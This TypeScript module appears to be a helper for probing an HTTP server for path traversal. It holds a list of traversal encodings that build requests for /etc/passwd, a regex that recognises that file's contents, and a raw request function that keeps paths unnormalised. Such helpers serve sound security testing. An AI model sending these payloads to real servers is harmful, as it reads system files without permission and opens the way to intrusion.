import { request } from 'node:http';

const ups = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '.%2e/',
  '%2e./',
  '..%5c',
  '..\\',
  '%252e%252e%252f',
  '....//',
  '..;/',
  './../',
  '..%00/',
  '%c0%ae%c0%ae/',
  '%uff0e%uff0e/',
];

/** Spellings of a way out of a folder of files. */
export const traversals: readonly string[] = ups.flatMap((up) => [
  `/${up.repeat(8)}etc/passwd`,
  `/assets/${up.repeat(8)}etc/passwd`,
]);

/** The content of that file on every machine. */
export const stolen = /root:[^:]*:0:0:/;

export type Led = { readonly status: number; readonly text: string };

/** The path as it is written: `fetch` would tidy it up. */
export const askPath = (url: string, path: string): Promise<Led> =>
  new Promise((resolve, reject) => {
    const { hostname, port } = new URL(url);
    const outgoing = request({ host: hostname, port, path, agent: false }, (answer) => {
      let text = '';
      answer.setEncoding('utf8').on('data', (part: string) => (text += part));
      answer.on('end', () => resolve({ status: answer.statusCode ?? 0, text }));
    });
    outgoing.on('error', reject);
    outgoing.end();
  });
